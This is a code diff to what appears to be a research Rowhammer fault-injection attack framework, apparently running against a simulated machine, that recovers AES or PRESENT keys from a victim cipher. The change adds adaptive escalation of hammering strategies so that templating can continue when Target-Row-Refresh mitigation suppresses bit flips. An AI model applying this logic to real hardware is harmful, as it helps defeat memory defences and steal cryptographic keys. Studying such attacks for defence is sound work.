@@ -20,7 +20,7 @@ use rand::rngs::StdRng;
 use rand::SeedableRng;
 
 use crate::attack::{AttackOutcome, AttackReport};
-use crate::config::{ExplFrameConfig, VictimCipherKind};
+use crate::config::{ExplFrameConfig, HammerStrategy, VictimCipherKind};
 use crate::error::AttackError;
 use crate::events::{NullObserver, Observer, PhaseEvent};
 use crate::phase::{
@@ -86,6 +86,7 @@ pub struct Pipeline<'m, 'o> {
     start_time: Nanos,
     hammer_start: u64,
     analyzer: AnalyzePhase,
+    strategy: HammerStrategy,
 }
 
 impl<'m, 'o> Pipeline<'m, 'o> {
@@ -103,6 +104,7 @@ impl<'m, 'o> Pipeline<'m, 'o> {
         let keys = VictimKeys::from_seed(config.seed);
         let start_time = machine.now();
         let hammer_start = machine.stats().hammer_pairs;
+        let strategy = config.strategy;
         Pipeline {
             config,
             machine,
@@ -114,6 +116,7 @@ impl<'m, 'o> Pipeline<'m, 'o> {
             start_time,
             hammer_start,
             analyzer: AnalyzePhase::new(),
+            strategy,
         }
     }
 
@@ -163,13 +166,54 @@ impl<'m, 'o> Pipeline<'m, 'o> {
     // ------------------------------------------------------------------
 
     /// Phase 1 — template: spawn the attacker and sweep its buffer for
-    /// repeatable flips.
+    /// repeatable flips with the pipeline's current [`HammerStrategy`].
     ///
     /// # Errors
     ///
     /// Returns [`AttackError::Machine`] for substrate failures.
     pub fn template(&mut self) -> Result<TemplatePool, AttackError> {
-        self.phase(&mut TemplatePhase, ())
+        let mut phase = TemplatePhase {
+            strategy: self.strategy,
+        };
+        self.phase(&mut phase, ())
+    }
+
+    /// Adaptive templating: sweep with the current strategy; if the sweep
+    /// comes back *empty* — the signature of a Target-Row-Refresh engine
+    /// refreshing every sandwiched victim before its threshold — escalate
+    /// to `escalate_to` (emitting [`PhaseEvent::StrategyEscalated`]) and
+    /// sweep again. The returned pool is from the last sweep; subsequent
+    /// [`Self::hammer`] calls use the escalated strategy.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`AttackError::Machine`] for substrate failures.
+    pub fn template_adaptive(
+        &mut self,
+        escalate_to: HammerStrategy,
+    ) -> Result<TemplatePool, AttackError> {
+        let pool = self.template()?;
+        if !pool.scan.templates.is_empty() || escalate_to == self.strategy {
+            return Ok(pool);
+        }
+        self.escalate(escalate_to);
+        self.template()
+    }
+
+    /// Switches the hammer strategy used by subsequent templating and
+    /// re-hammer phases, recording the escalation in the counters and the
+    /// event stream.
+    pub fn escalate(&mut self, to: HammerStrategy) {
+        let from = self.strategy;
+        self.strategy = to;
+        self.counters.strategy_escalations += 1;
+        self.emit(PhaseEvent::StrategyEscalated { from, to });
+    }
+
+    /// The hammer strategy currently in force.
+    #[must_use]
+    pub fn strategy(&self) -> HammerStrategy {
+        self.strategy
     }
 
     /// Filters the pool against `kind`'s table layout (best-reproducing
@@ -247,8 +291,9 @@ impl<'m, 'o> Pipeline<'m, 'o> {
     }
 
     /// Phase 4 — hammer: re-hammer the retained aggressors around the
-    /// steered frame. `Ok(false)` means the hammer primitive rejected the
-    /// aggressor pair (fragmented buffer) and the round should be skipped.
+    /// steered frame with the pipeline's current [`HammerStrategy`].
+    /// `Ok(false)` means the hammer primitive rejected the aggressor set
+    /// (fragmented buffer) and the round should be skipped.
     ///
     /// # Errors
     ///
@@ -258,7 +303,10 @@ impl<'m, 'o> Pipeline<'m, 'o> {
         pool: &TemplatePool,
         steered: &SteeredVictim,
     ) -> Result<bool, AttackError> {
-        self.phase(&mut HammerPhase, (pool.attacker, steered.template))
+        let mut phase = HammerPhase {
+            strategy: self.strategy,
+        };
+        self.phase(&mut phase, (pool.attacker, pool.buffer, steered.template))
     }
 
     /// Phase 5a — collect: query victim encryptions until the fault
@@ -409,6 +457,7 @@ impl<'m, 'o> Pipeline<'m, 'o> {
             recovered_aes_key: self.counters.recovered_aes_key,
             recovered_present_key: self.counters.recovered_present_key,
             key_correct,
+            strategy_escalations: self.counters.strategy_escalations,
             elapsed,
         }
     }
